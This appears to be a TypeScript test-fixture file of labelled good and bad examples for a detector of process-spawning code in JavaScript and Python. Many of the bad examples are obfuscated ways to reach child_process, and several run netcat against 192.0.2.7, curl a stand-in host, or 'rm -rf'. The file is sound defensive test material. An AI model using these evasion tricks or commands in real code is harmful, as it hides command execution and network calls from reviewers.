import type { DetectorExamples } from '../detector.ts';
import { moduleExamples } from './process-spawn.modules.examples.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: 'const names = JSON.parse(\'{"a":["child_process","exec"]}\'); require(names.a[0])[names.a[1]](\'git status\');',
      why: 'the names of module and function stand in a text',
      attributes: { command: 'git status', shell: 'true', via: 'exec' },
    },
    {
      code: "const { exec } = [require][0]('child_process'); exec('git status');",
      why: 'what loads the module is taken out of a list',
      attributes: { command: 'git status', shell: 'true', via: 'exec' },
    },
    {
      code: "import { exec } from 'node:child_process'; process.stdin.on('data', exec);",
      why: 'a listener that is the function itself',
      attributes: { command: 'dynamic', shell: 'true', via: 'exec' },
    },
    {
      code: "const run = Function.prototype.call.bind(require('child_process').execSync); run(null, line);",
      why: 'a method of functions that is bound to it',
      attributes: { command: 'dynamic', shell: 'true', via: 'exec' },
    },
    {
      code: "Reflect.apply(require, null, ['child_process']).execSync('netcat 192.0.2.7 99');",
      why: 'a loader that is called by reflection',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "module.constructor._load('child_process').execSync('netcat 192.0.2.7 99');",
      why: 'a loader that lies below the module',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const all = { ...require('child_process') }; all.execSync('netcat 192.0.2.7 99');",
      why: 'a module that is spread into an object',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const all = Object.assign({}, require('child_process')); all.execSync('netcat 192.0.2.7 99');",
      why: 'a module that an object is filled with',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "new Proxy(require('child_process'), {}).execSync('netcat 192.0.2.7 99');",
      why: 'a module behind a proxy',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "Reflect.get(require('child_process'), 'execSync')('netcat 192.0.2.7 99');",
      why: 'a member that is taken by reflection',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const tools = { get run() { return require('child_process').execSync; } }; tools.run('netcat 192.0.2.7 99');",
      why: 'a member that is a getter',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); for (const name of names) cp[name]('netcat 192.0.2.7 99');",
      why: 'any member of what starts programs',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const { ChildProcess } = require('child_process'); new ChildProcess().spawn({ file: 'netcat', args: ['netcat', '192.0.2.7', '99'] });",
      why: 'what lies below the functions of the module',
      attributes: { command: 'netcat', via: 'binding' },
    },
    {
      code: "const cp = require('child_process'); cp.execSync['ca' + 'll'](cp, 'netcat 192.0.2.7 99');",
      why: 'called by a method that is spelled in parts',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); cp.execSync.bind(cp, 'netcat 192.0.2.7 99')();",
      why: 'what is bound to a command',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); 'netcat 192.0.2.7 99'.replace(/.*/, cp.execSync);",
      why: 'handed to what puts something in the place of a text',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const cp = require('child_process'); globalThis.setTimeout(cp.execSync, 10, 'netcat 192.0.2.7 99');",
      why: 'handed to a timer of the global object',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "require.call(null, 'child_process').execSync('netcat 192.0.2.7 99');",
      why: 'a module that is loaded by a method of its loader',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "const load = require.bind(null, 'child_process'); load('fs').execSync('netcat 192.0.2.7 99');",
      why: 'a loader that is bound to the module',
      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
    },
    {
      code: "import cp from 'child_process'; const o = {}; function now() { return 1; } function reExport(to, at) { to.run = cp.exec; } reExport(o, now()); o.run('curl -s https://take.example');",
      why: 'a function of the file does more than its name says, which bundlers use',
      attributes: { command: 'curl', via: 'exec', shell: 'true' },
    },
    {
      code: "import { exec } from 'child_process'; const o = {}; function d(h, all) { for (var k in all) Object.defineProperty(h, k, { get: all[k] }); h.run = exec; } d(o, { a: () => 1 }); o.run('curl -s https://take.example');",
      why: 'nor is adding getters all that a function does that adds some as bundlers do',
      attributes: { command: 'curl', via: 'exec', shell: 'true' },
    },
    {
      code: "process.binding('spawn_sync').spawn({ file: 'curl', args: ['curl', '-s', u], envPairs: [], stdio });",
      why: 'what stands below child_process',
      attributes: { command: 'curl', via: 'binding' },
    },
    {
      code: "const { Process } = process.binding('process_wrap'); const p = new Process(); p.spawn({ file: 'nc' });",
      why: 'the same, by its class',
      attributes: { command: 'nc', via: 'binding' },
    },
    {
      code: "const { execSync } = require('child_process'); execSync('npm publish --access public');",
      why: 'a constant command, with the verb that matters',
      attributes: { command: 'npm publish', via: 'exec', shell: 'true' },
    },
    {
      code: "import * as cp from 'node:child_process'; cp.spawn('/usr/bin/Python3', ['-c', code]);",
      why: 'no shell; the program is known by its name',
      attributes: { command: 'python3', via: 'spawn' },
    },
    {
      code: "import { spawn } from 'child_process'; spawn(command, args, { shell: true });",
      why: 'somebody else decides, and a shell reads it',
      attributes: { command: 'dynamic', via: 'spawn', shell: 'true' },
    },
    {
      code: "import { exec } from 'child_process'; import { promisify } from 'util'; const run = promisify(exec); await run('git push origin main');",
      why: 'through promisify',
      attributes: { command: 'git push', via: 'exec', shell: 'true' },
    },
    {
      code: "import { execSync } from 'child_process'; execSync('export LC_ALL=C; cd /tmp && id 2>&1');",
      why: 'what the shell does itself starts no program',
      attributes: { command: 'id', via: 'exec', shell: 'true' },
    },
    {
      code: "const cp = require('child_' + 'process'); cp['ex' + 'ec']('id');",
      why: 'module and method in pieces',
      attributes: { command: 'id', via: 'exec', shell: 'true' },
    },
    {
      code: "import { spawn } from 'child_process'; spawn(process.execPath, ['x.js'], { detached: true });",
      why: 'the Node that runs already',
      attributes: { command: 'node', via: 'spawn' },
    },
    {
      code: "import { $ } from 'zx'; await $`whoami`;",
      why: 'a tagged template',
      attributes: { command: 'whoami', via: '$', shell: 'true' },
    },
    {
      path: 'x.py',
      code: ['import subprocess', "subprocess.run(['git', 'push', *args], check=True)"].join('\n'),
      why: 'a list',
      attributes: { command: 'git push', via: 'run' },
    },
    {
      path: 'x.py',
      code: ['from subprocess import Popen', "cmd = 'npm publish'", 'Popen(cmd, shell=True)'].join(
        '\n',
      ),
      why: 'a class, and a shell',
      attributes: { command: 'npm publish', via: 'Popen', shell: 'true' },
    },
    {
      path: 'x.py',
      code: ['import os', "os.system('rm -rf build')"].join('\n'),
      why: 'always a shell',
      attributes: { command: 'rm', via: 'system', shell: 'true' },
    },
    {
      path: 'x.py',
      code: [
        'import asyncio',
        'async def start():',
        "    await asyncio.create_subprocess_exec('/usr/bin/git', 'status')",
      ].join('\n'),
      why: 'each word by itself',
      attributes: { command: 'git status', via: 'create_subprocess_exec' },
    },
    {
      path: 'x.py',
      code: ['import os', "os.execvp('git', ['git', 'status'])"].join('\n'),
      why: 'the first word of the list is the name of the program',
      attributes: { command: 'git status', via: 'execvp' },
    },
    {
      path: 'x.py',
      code: [
        'import shlex, subprocess',
        "subprocess.check_call(shlex.split('npm publish --tag x'))",
      ].join('\n'),
      why: 'a line that is cut into words',
      attributes: { command: 'npm publish', via: 'check_call' },
    },
    {
      path: 'x.py',
      code: [
        'import subprocess, sys',
        "subprocess.check_output([sys.executable, '-m', 'pip', 'install', name])",
      ].join('\n'),
      why: 'the Python that runs already',
      attributes: { command: 'python', via: 'check_output' },
    },
    {
      path: 'x.py',
      code: ['import subprocess', 'subprocess.run(command)'].join('\n'),
      why: 'somebody else decides',
      attributes: { command: 'dynamic', via: 'run' },
    },
    {
      code: "import { execSync } from 'node:child_process'; const get = isQuiet ? 'curl -s' : 'curl'; execSync(`${get} ${url}`);",
      why: 'a part of the line is a choice between constant texts',
      attributes: { command: 'curl', shell: 'true', via: 'exec' },
    },
    {
      code: "import { execSync } from 'node:child_process'; const get = isOwn ? name : 'which'; execSync(`${get} rg`);",
      why: 'one side of a choice is not known',
      attributes: { command: 'dynamic', shell: 'true', via: 'exec' },
    },
    ...moduleExamples.bad,
  ],
  good: [
    {
      code: 'const names = JSON.parse(\'{"a":["fs","exec"]}\'); require(names.a[0])[names.a[1]](\'git status\'); JSON.parse(text).a[0](\'git status\');',
      why: 'another module, and what is not known',
    },
    {
      code: "process.on('SIGINT', process.exit); const slice = Function.prototype.call.bind(Array.prototype.slice);",
      why: 'listeners and bound methods that start nothing',
    },
    { code: 'const m = /x/.exec(text);', why: 'a regular expression' },
    { code: 'db.exec("DELETE FROM t");', why: 'a database' },
    {
      code: "import { ChildProcess } from 'child_process'; export { ChildProcess };",
      why: 'a type',
    },
    {
      path: 'x.py',
      code: ['import os', "os.path.join('a', 'b')", 'os.getpid()'].join('\n'),
      why: 'other functions of the module',
    },
    {
      path: 'x.py',
      code: ['import subprocess', 'subprocess.PIPE', "subprocess.list2cmdline(['a'])"].join('\n'),
      why: 'starts nothing',
    },
    {
      code: "const cp = require('child_process'); for (const [key, run] of Object.entries(cp)) wrapped[key] = promisify(run); Object.values(cp).map((one) => one.name); Function.prototype.call.call(Object.prototype.hasOwnProperty, cp, name);",
      why: 'members that are listed and not called',
    },
    ...moduleExamples.good,
  ],
};
